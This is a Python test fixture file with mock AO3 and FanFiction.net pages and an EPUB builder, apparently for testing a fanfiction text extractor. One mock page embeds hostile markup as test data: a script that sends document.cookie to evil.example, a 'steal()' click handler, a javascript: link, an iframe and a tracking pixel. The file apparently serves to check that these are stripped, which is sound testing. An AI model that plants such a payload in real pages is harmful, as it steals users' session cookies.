# ruff: noqa: E501  (page and package fixtures: long lines of markup are data)
"""Web pages and EPUBs in the shape of AO3's and FanFiction.net's downloads, written for these
tests (not copied from the sites): the same containers, classes and metadata layout."""

from __future__ import annotations

import io
import zipfile

AO3_DOWNLOAD = """<!DOCTYPE html>
<html><head><meta charset="UTF-8"/><title>The Tidewater Letters - Wren Calloway</title>
<style type="text/css">body { background: url(https://tracker.example/bg.png) }</style>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body>
<div id="preface">
  <p class="message">Posted originally on the <a href="https://archiveofourown.org/">Archive of Our Own</a>.</p>
  <div class="meta"><dl class="tags">
    <dt>Rating:</dt><dd><a class="tag" href="https://archiveofourown.org/tags/Teen">Teen And Up Audiences</a></dd>
    <dt>Archive Warning:</dt><dd><a class="tag">No Archive Warnings Apply</a></dd>
    <dt>Fandom:</dt><dd><a class="tag">Harbour Town (TV)</a></dd>
    <dt>Relationship:</dt><dd><a class="tag">Ada/Morrow</a></dd>
    <dt>Additional Tags:</dt><dd><a class="tag">Epistolary</a>, <a class="tag">Slow Burn</a></dd>
    <dt>Language:</dt><dd>English</dd>
    <dt>Stats:</dt><dd>Published: 2019-04-02 Updated: 2019-05-11 Words: 1,204 Chapters: 2/2</dd>
  </dl>
  <h1>The Tidewater Letters</h1>
  <div class="byline">by <a rel="author" href="https://archiveofourown.org/users/wren">Wren Calloway</a></div>
  <p>Summary</p>
  <blockquote class="userstuff"><p>Two keepers, one lighthouse, forty letters.</p></blockquote>
  <p>Notes</p>
  <blockquote class="userstuff"><p>Written for the autumn exchange. Thanks to my beta!</p></blockquote>
  </div>
</div>
<div id="chapters" class="userstuff">
  <div class="meta group"><h2 class="heading">Chapter 1: The First Letter</h2></div>
  <div class="userstuff">
    <p>Dear Morrow, the lamp is <em>lit</em> and the <strong>fog</strong> has come in early.</p>
    <p onclick="steal()">I found your coat on the <a href="javascript:alert(1)">rocks</a> below the stair.</p>
    <p><img src="https://tracker.example/pixel.gif" alt="a tracking pixel"/>The gulls kept me awake.</p>
    <iframe src="https://evil.example/frame"></iframe>
    <p style="text-align: center">* * *</p>
    <p>Later, the tide turned and the letter went with it.</p>
  </div>
  <div class="meta group"><h2 class="heading">Chapter 2: The Answer</h2>
    <p>Chapter Notes</p><blockquote class="userstuff"><p>Sorry this took so long!</p></blockquote></div>
  <div class="userstuff">
    <p>Dear Ada,<br/>the sea is grey,<br/>the rope is wet,<br/>and I am coming home.</p>
    <p>Yours, always, in <span style="font-variant: small-caps">Harbour Town</span>.</p>
  </div>
</div>
<div id="afterword"><div id="endnotes"><p>End Notes</p>
  <blockquote class="userstuff"><p>Kudos and comments keep me writing.</p></blockquote></div>
  <div id="feedback"><p>Please <a href="https://archiveofourown.org/works/1#comments">drop by</a> to leave kudos.</p></div>
</div>
</body></html>
"""

AO3_WORDS = ("Dear Morrow the lamp is lit and the fog has come in early I found your coat on the "
             "rocks below the stair The gulls kept me awake Later the tide turned and the letter "
             "went with it Dear Ada the sea is grey the rope is wet and I am coming home Yours "
             "always in Harbour Town")

FFN_PAGE = """<!DOCTYPE html><html><head><title>Salt and Iron Chapter 1, a Harbour Town fanfic | FanFiction</title>
<link rel="stylesheet" href="https://static.example/ffn.css"/></head>
<body>
<div id="top"><div class="menulink">Just In | Community | Forum</div></div>
<div id="pre_story_links"><a href="/tv/">TV Shows</a> » <a href="/tv/Harbour-Town/">Harbour Town</a></div>
<div id="profile_top">
  <b class="xcontrast_txt">Salt and Iron</b> By: <a class="xcontrast_txt" href="/u/42/Pell-Marsh">Pell Marsh</a>
  <div class="xcontrast_txt">The foundry burns on the night of the storm.</div>
  <span class="xgray xcontrast_txt">Rated: <a>Fiction T</a> - English - Drama - Words: 412 - Reviews: 7 - Favs: 3 - Published: 9/24/2012 - id: 8565781</span>
</div>
<select id="chap_select" onchange="self.location=this.value"><option>1. Storm</option></select>
<div id="storytext" class="storytext xcontrast_txt nocopy">
<p><strong>A/N: This is my first story, please be nice!</strong></p>
<p><em>Disclaimer: I don't own Harbour Town.</em></p>
<p>The foundry bell rang twice before the storm broke over the town.</p>
<p>Ines ran the length of the quay with her boots in her hand.</p>
<hr size="1" noshade="noshade"/>
<p>By morning the iron had cooled into shapes nobody had poured.</p>
<p>Edited 3/4/12</p>
</div>
<div id="review"><button onclick="postReview()">Post Review</button><textarea>Type your review</textarea></div>
<button class="btn" type="BUTTON" onclick="self.location='/s/8565781/2/'">Next &gt;</button>
<div id="footer">Privacy · Terms of Service</div>
</body></html>
"""

FFN_WORDS = ("The foundry bell rang twice before the storm broke over the town Ines ran the length "
             "of the quay with her boots in her hand By morning the iron had cooled into shapes "
             "nobody had poured")


def _xhtml(title: str, body: str) -> str:
    return ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html>\n'
            '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>' + title
            + "</title></head><body>" + body + "</body></html>")


def epub_bytes(chapters: list[tuple[str, str]], *, extra: dict[str, bytes] | None = None,
               title: str = "The Copper Year", author: str = "Tamsin Reed",
               headings: bool = True) -> bytes:
    """An EPUB 3 in the shape of an AO3 or FanFicFare download: a title page, chapters in
    spine order, an afterword of site furniture."""
    items = [("preface.xhtml", _xhtml("Preface",
              '<div id="preface"><h1>' + title + '</h1><div class="byline">by <a rel="author">'
              + author + '</a></div><p>Summary</p><blockquote class="userstuff"><p>A year in '
              'the copper mines.</p></blockquote><div class="meta"><dl class="tags"><dt>Rating:</dt>'
              '<dd>General Audiences</dd><dt>Fandom:</dt><dd><a class="tag">Deepvale</a></dd>'
              '<dt>Stats:</dt><dd>Published: 2021-01-05 Words: 240</dd></dl></div></div>'
              '<div id="chapters"></div>'))]
    for number, (heading, body) in enumerate(chapters, start=1):
        shown = "<h2>" + heading + "</h2>" if headings else ""
        items.append((f"chapter{number}.xhtml", _xhtml(heading, shown + body)))
    items.append(("afterword.xhtml", _xhtml("Afterword", '<div id="afterword"><div id="feedback">'
                  '<p>Leave kudos at the archive.</p></div></div>')))
    manifest = "".join(f'<item id="i{n}" href="{name}" media-type="application/xhtml+xml"/>'
                       for n, (name, _) in enumerate(items))
    spine = "".join(f'<itemref idref="i{n}"/>' for n in range(len(items)))
    opf = ('<?xml version="1.0" encoding="utf-8"?><package xmlns="http://www.idpf.org/2007/opf" '
           'version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
           f'<dc:identifier id="id">urn:uuid:12345678-1234-5678-1234-567812345678</dc:identifier>'
           f'<dc:title>{title}</dc:title><dc:creator>{author}</dc:creator><dc:language>en</dc:language>'
           '<meta property="dcterms:modified">2021-01-05T00:00:00Z</meta></metadata>'
           '<manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>'
           f'{manifest}</manifest><spine>{spine}</spine></package>')
    nav = _xhtml("Nav", '<nav xmlns:epub="http://www.idpf.org/2007/ops" epub:type="toc"><ol>'
                 + "".join(f'<li><a href="chapter{n}.xhtml">{h}</a></li>'
                           for n, (h, _) in enumerate(chapters, start=1)) + "</ol></nav>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/epub+zip")
        archive.writestr("META-INF/container.xml",
                         '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:'
                         'opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/'
                         'content.opf" media-type="application/oebps-package+xml"/></rootfiles>'
                         '</container>')
        archive.writestr("OEBPS/content.opf", opf)
        archive.writestr("OEBPS/nav.xhtml", nav)
        for name, content in items:
            if f"OEBPS/{name}" not in (extra or {}):  # an extra entry of that name replaces it
                archive.writestr(f"OEBPS/{name}", content)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


AO3_EPUB_CHAPTER = ('<div class="meta group"><h2 class="heading">Chapter 3: Tailings</h2>'
                    '<div class="notes"><p><b>Notes:</b></p><blockquote class="userstuff"><p>Sorry for '
                    'the wait, exams!</p></blockquote></div></div><div class="userstuff"><p>The tailings '
                    'pond froze in a single night.</p></div>')
EPUB_CHAPTERS = [
    ("Chapter 1: Ore", "<p>The first cart came up the shaft at dawn, <em>heavy</em> with ore.</p>"
                       "<p>Nobody spoke until the foreman did.</p>"),
    ("Chapter 2: Smoke", "<p>Smoke rose from the smelter for a week.</p><hr/>"
                         "<p>Then the rain came and washed the valley green.</p>"),
]
EPUB_WORDS = ("Chapter 1 Ore The first cart came up the shaft at dawn heavy with ore Nobody spoke "
              "until the foreman did Chapter 2 Smoke Smoke rose from the smelter for a week Then the "
              "rain came and washed the valley green")

AO3_WORK_PAGE = """<!DOCTYPE html><html lang="en"><head><title>Low Water - Harbour Town [Archive of Our Own]</title>
<script src="https://cdn.example/jquery.js"></script></head>
<body><div id="outer"><div id="header"><h1 class="heading"><a href="/">Archive of Our Own</a></h1>
<ul class="primary navigation actions"><li><a href="/menu/fandoms">Fandoms</a></li><li>Browse</li></ul></div>
<div id="main" class="works-show region" role="main">
<ul class="work navigation actions"><li class="chapter">Entire Work</li><li><a href="#comments">Comments (4)</a></li></ul>
<div class="wrapper"><dl class="work meta group">
  <dt class="rating tags">Rating:</dt><dd class="rating tags"><ul class="commas"><li><a class="tag">Mature</a></li></ul></dd>
  <dt class="fandom tags">Fandom:</dt><dd class="fandom tags"><ul class="commas"><li><a class="tag">Harbour Town (TV)</a></li></ul></dd>
  <dt class="freeform tags">Additional Tags:</dt><dd class="freeform tags"><ul><li><a class="tag">Angst</a></li><li><a class="tag">Hurt/Comfort</a></li></ul></dd>
  <dt class="language">Language:</dt><dd class="language">English</dd>
  <dt class="stats">Stats:</dt><dd class="stats"><dl class="stats"><dt class="published">Published:</dt><dd class="published">2020-06-01</dd>
  <dt class="words">Words:</dt><dd class="words">2,318</dd></dl></dd></dl></div>
<div id="workskin"><div class="preface group"><h2 class="title heading">Low Water</h2>
<h3 class="byline heading"><a rel="author" href="/users/morrow">Jo Morrow</a></h3>
<div class="summary module"><h3 class="heading">Summary:</h3><blockquote class="userstuff"><p>The tide goes out and does not come back.</p></blockquote></div>
<div class="notes module"><h3 class="heading">Notes:</h3><blockquote class="userstuff"><p>For my sister.</p></blockquote></div></div>
<div id="chapters" role="article"><h3 class="landmark heading" id="work">Work Text:</h3>
<div class="userstuff"><p>The harbour emptied overnight, boats tilted on the mud like sleepers.</p>
<p>Nobody in town could remember the sea ever leaving.</p></div></div>
<div id="feedback" class="feedback"><ul class="actions"><li><button onclick="kudos()">Kudos ♥</button></li></ul>
<div id="kudos"><p>Rem and 40 more users left kudos on this work!</p></div>
<div id="comments_placeholder"><p>Comment as guest: nice!</p></div></div>
</div></div><div id="footer" role="contentinfo"><p>Terms of Service</p></div></div></body></html>
"""
AO3_WORK_WORDS = ("The harbour emptied overnight boats tilted on the mud like sleepers Nobody in town "
                  "could remember the sea ever leaving")
